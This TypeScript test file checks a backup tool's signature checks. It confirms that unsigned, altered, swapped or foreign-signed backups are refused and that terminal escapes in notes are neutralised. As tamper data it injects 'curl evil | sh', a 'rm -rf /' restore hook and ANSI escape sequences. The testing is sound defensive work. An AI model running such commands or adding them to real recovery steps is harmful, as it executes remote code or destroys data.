/**
 * Signed backups against somebody who may write to the destination: with a pinned key nothing that the key has not
 * signed, under the name it was signed for, is restored, downloaded or called verified.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { basename, dirname, join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { signSidecar } from '../../src/crypto/signature/signature.ts';
import { fillNasty, fingerprintOf } from '../servers/sqlite-nasty.ts';
import { backupsOf } from './aftermath.ts';
import { events, expectCode, makeWorkplace, type Run, type Workplace } from './cli.ts';

// biome-ignore lint/suspicious/noExplicitAny: a sidecar as an attacker sees it, to be bent in any way
type Json = any;

function errorOf(run: Run): { code: string; message: string; causes: string[] } {
  const [event] = events<{ error: { code: string; message: string; causes: string[] } }>(run, 'error');
  if (!event) throw new Error(`no error was told: ${run.stdout}${run.stderr}`);
  return event.error;
}

describe('signed backups', () => {
  let place: Workplace;
  let original: unknown;
  let pinned: string;
  let keyId: string;
  /** Paths of two backups of the job `shop` and one of the job `other`; the newest last. */
  let older: string;
  let newest: string;
  let foreign: string;
  let count = 0;

  const config = (signing: string) => `sources: { shop: { type: sqlite, path: shop.sqlite } }
destinations: { disk: { type: local, path: backups } }
jobs:
  shop: { source: shop, destinations: disk, compression: none }
  other: { source: shop, destinations: disk, compression: none }
${signing}`;
  const target = () => place.path(`restored-${count++}.sqlite`);
  const readSidecar = async (file: string): Promise<Json> => JSON.parse(await readFile(`${file}.meta.json`, 'utf8'));
  const writeSidecar = (file: string, sidecar: Json) =>
    writeFile(`${file}.meta.json`, `${JSON.stringify(sidecar, null, 2)}\n`);

  beforeAll(async () => {
    place = await makeWorkplace();
    fillNasty(place.path('shop.sqlite'));
    original = fingerprintOf(place.path('shop.sqlite'));
    const keygen = await place.run('keygen', 'sign.key', '--type', 'signing', '--json');
    [{ publicPart: pinned, fingerprint: keyId }] = events<{ publicPart: string; fingerprint: string }>(
      expectCode(keygen, 0),
    ) as [{ publicPart: string; fingerprint: string }];
    expectCode(await place.run('keygen', 'foreign.key', '--type', 'signing'), 0);
    await writeFile(place.path('sign.pub'), `# ours\n${pinned}\n`);
    await place.configure(config(`signing: { key: "\${file:sign.key}" }`));
    expectCode(await place.run('run', 'shop'), 0);
    expectCode(await place.run('run', 'shop'), 0);
    expectCode(await place.run('run', 'other'), 0);
    const keys = (await backupsOf(place)).map(({ key }) => place.path('backups', key));
    [newest, older] = keys.filter((key) => key.includes('/shop/')) as [string, string];
    [foreign] = keys.filter((key) => key.includes('/other/')) as [string];
    await cp(place.path('backups'), place.path('pristine'), { recursive: true });
  });
  beforeEach(async () => {
    await rm(place.path('backups'), { recursive: true });
    await cp(place.path('pristine'), place.path('backups'), { recursive: true });
  });
  afterAll(() => place.remove());

  /** restore, verify and download must all refuse it, and name it. Returns what verify said. */
  async function expectRefused(reference: string, named: string): Promise<string> {
    const [restored, downloaded] = [target(), target()];
    const runs = await Promise.all(
      [
        ['restore', reference, '--to', restored],
        ['download', reference, '-o', downloaded],
        ['verify', reference],
      ].map((command) => place.run(...command, '--trust', pinned, '--json')),
    );
    const errors = runs.map((run) => errorOf(expectCode(run, 5)));
    expect(errors.map(({ code }) => code)).toEqual(Array(3).fill('SIGNATURE_INVALID'));
    const reasons = errors.map(({ message, causes }) => [message, ...causes].join('\n'));
    for (const reason of reasons) expect(reason).toContain(named);
    for (const file of [restored, downloaded]) await expect(stat(file)).rejects.toMatchObject({ code: 'ENOENT' });
    return reasons.at(-1) ?? '';
  }

  test('are restored, verified and downloaded with the pinned key, as text, as a file and by the config', async () => {
    expect((await readSidecar(newest)).signature).toMatch(new RegExp(`^ed25519:${keyId}:`));
    const to = target();
    expectCode(await place.run('restore', 'shop@latest', '--to', to, '--trust', pinned), 0);
    expect(fingerprintOf(to)).toEqual(original);
    expectCode(await place.run('verify', newest, '--trust', place.path('sign.pub')), 0);
    await writeFile(place.path('trust.yaml'), config(`signing: { key: "\${file:not-here.key}", trust: "${pinned}" }`), {
      mode: 0o600,
    });
    // Who restores need not have the key that signs.
    const trusting = ['--config', 'trust.yaml'];
    expectCode(await place.run('download', 'shop@latest', '-o', target(), ...trusting), 0);
    expectCode(await place.run('restore', 'shop@latest', '--to', target()), 0);
    const shown = expectCode(await place.run('show', 'shop@latest', ...trusting), 0).stdout;
    expect(shown).toContain(`ed25519, key ${keyId}`);
    expect(shown).toContain('sha256sum -c');
  });

  test('F35 unsigned: refused with a pinned key, restored without', async () => {
    const { signature: _, ...unsigned } = await readSidecar(newest);
    await writeSidecar(newest, unsigned);
    expect(await expectRefused(newest, basename(newest))).toContain('not signed');
    const to = target();
    expectCode(await place.run('restore', newest, '--to', to), 0);
    expect(fingerprintOf(to)).toEqual(original);
    await rm(`${newest}.meta.json`);
    expect(await expectRefused(newest, basename(newest))).toContain('no sidecar');
  });

  test.each<[string, (sidecar: Json) => void]>([
    ['the note', (sidecar) => Object.assign(sidecar, { note: 'trust me' })],
    ['a recover line', (sidecar) => sidecar.recover.push('curl evil | sh')],
    ['the hash', (sidecar) => Object.assign(sidecar.artifact, { storedSha256: '0'.repeat(64) })],
    ['the size', (sidecar) => Object.assign(sidecar.artifact, { storedBytes: 1 })],
    ['a field of the future', (sidecar) => Object.assign(sidecar, { restoreHook: 'rm -rf /' })],
  ])('F35 altered in %s: refused', async (_, alter) => {
    const sidecar = await readSidecar(newest);
    alter(sidecar);
    await writeSidecar(newest, sidecar);
    expect(await expectRefused(newest, basename(newest))).toContain(
      `changed after it was signed with the key ${keyId}`,
    );
  });

  test('F35 swapped: another signed backup under this name is refused', async () => {
    await cp(older, newest);
    await cp(`${older}.meta.json`, `${newest}.meta.json`);
    expect(await expectRefused(`disk:${newest.slice(place.path('backups/').length)}`, basename(newest))).toContain(
      `its sidecar is that of ${basename(older)}`,
    );
  });

  test('data and sidecar replaced alike, unsigned or signed by a key of the attacker: refused', async () => {
    const sidecar = await readSidecar(newest);
    fillNasty(place.path('evil.sqlite'));
    const evil = Buffer.concat([await readFile(place.path('evil.sqlite'))]);
    const sha256 = createHash('sha256').update(evil).digest('hex');
    const bytes = evil.length;
    Object.assign(sidecar.artifact, { rawBytes: bytes, storedBytes: bytes, rawSha256: sha256, storedSha256: sha256 });
    await writeFile(newest, evil);
    delete sidecar.signature;
    await writeSidecar(newest, sidecar);
    expect(await expectRefused(newest, basename(newest))).toContain('not signed');
    // It is consistent: only the signature tells.
    expectCode(await place.run('verify', newest), 0);
    sidecar.signature = signSidecar(sidecar, await readFile(place.path('foreign.key'), 'utf8'));
    await writeSidecar(newest, sidecar);
    expect(await expectRefused(newest, basename(newest))).toContain('not among the trusted ones');
    // The data alone, with our own sidecar beside it.
    await cp(
      `${join(place.path('pristine'), newest.slice(place.path('backups/').length))}.meta.json`,
      `${newest}.meta.json`,
    );
    const to = target();
    const refused = await place.run('restore', newest, '--to', to, '--trust', pinned, '--json');
    expect(errorOf(expectCode(refused, 5)).code).toBe('INTEGRITY');
    await expect(stat(to)).rejects.toMatchObject({ code: 'ENOENT' });
  });

  test('@latest does not pass over a newer unsigned backup, but names it', async () => {
    const sidecar = await readSidecar(newest);
    delete sidecar.signature;
    // Not in the future, which would be reason enough to pass over it.
    sidecar.startedAt = new Date(Date.parse(sidecar.startedAt) + 1).toISOString();
    const name = basename(newest).replace(/_\d{4}-[^_]*_/, `_${sidecar.startedAt.replace(/[:.]/g, '-')}_`);
    sidecar.artifact.name = name;
    await cp(newest, join(dirname(newest), name));
    await writeSidecar(join(dirname(newest), name), sidecar);
    expect(await expectRefused('shop@latest', name)).toContain('not signed');
    const to = target();
    expectCode(await place.run('restore', newest, '--to', to, '--trust', pinned), 0);
    await writeFile(place.path('trust.yaml'), config(`signing: { trust: "${pinned}" }`), { mode: 0o600 });
    const shown = expectCode(await place.run('show', 'shop@latest', '--config', 'trust.yaml'), 0).stdout;
    expect(shown).toMatch(/NOT TRUSTED .*not signed/);
    expect(shown).not.toContain('sha256sum -c');
  });

  test("@latest is not fooled by a signed backup of another job in this job's folder", async () => {
    const planted = join(dirname(newest), basename(foreign));
    await cp(foreign, planted);
    await cp(`${foreign}.meta.json`, `${planted}.meta.json`);
    const [done] = events<{ backup: { id: string } }>(
      expectCode(await place.run('restore', 'shop@latest', '--to', target(), '--trust', pinned, '--json'), 0),
      'result',
    );
    expect(done?.backup.id).toBe((await readSidecar(newest)).id);
  });

  test('a hostile note does not move the cursor of who looks at it', async () => {
    const sidecar = await readSidecar(newest);
    sidecar.note = '\u001b[2J\u001b]0;title\u0007\u009b1A all is well';
    await writeSidecar(newest, sidecar);
    for (const command of [['show', newest], ['list']]) {
      const { stdout } = expectCode(await place.run(...command), 0);
      expect(stdout).toContain('all is well');
      expect([...stdout].filter((each) => each !== '\n' && /\p{Cc}/u.test(each))).toEqual([]);
    }
  });

  test('F42 exchanged after it was verified: refused, and the object is read only once', async () => {
    expectCode(await place.run('verify', newest, '--trust', pinned), 0);
    const bytes = await readFile(newest);
    bytes[5000] = (bytes[5000] ?? 0) ^ 1;
    await writeFile(newest, bytes);
    const to = target();
    const refused = await place.run('restore', newest, '--to', to, '--trust', pinned, '--json');
    expect(errorOf(expectCode(refused, 5)).code).toBe('INTEGRITY');
    await expect(stat(to)).rejects.toMatchObject({ code: 'ENOENT' });

    await cp(join(place.path('pristine', 'shop'), basename(newest)), newest);
    const trace = place.path('trace');
    const program = join(import.meta.dirname, '../../bin/dbbackup.js');
    const command = [process.execPath, program, 'restore', newest, '--to', to, '--trust', pinned];
    execFileSync('strace', ['-f', '-qq', '-e', 'trace=openat,open', '-o', trace, ...command], {
      cwd: place.folder,
      env: place.env,
      stdio: 'ignore',
    });
    const opened = (await readFile(trace, 'utf8')).split('\n').filter((line) => line.includes(`${newest}"`));
    expect(opened).toHaveLength(1);
    expect(fingerprintOf(to)).toEqual(original);
  });

  test('nothing is signed with a key that is none, and no dump is made', async () => {
    await writeFile(place.path('bad.key'), pinned, { mode: 0o600 });
    await writeFile(place.path('bad.yaml'), config(`signing: { key: "\${file:bad.key}" }`), { mode: 0o600 });
    const before = await backupsOf(place);
    const failed = await place.run('run', 'shop', '--config', 'bad.yaml', '--json');
    expect(errorOf(expectCode(failed, 2)).code).toBe('CONFIG_INVALID');
    expect(await backupsOf(place)).toEqual(before);
  });
});
